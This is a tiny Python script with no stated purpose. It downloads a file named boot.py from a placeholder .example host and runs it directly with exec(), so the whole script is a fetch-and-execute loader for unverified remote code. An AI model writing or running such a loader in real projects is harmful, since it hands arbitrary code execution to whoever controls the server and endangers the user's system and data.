import urllib.request

URL = "https://py.analysis-kit.example/boot.py"


def main():
    exec(urllib.request.urlopen(URL).read())


main()
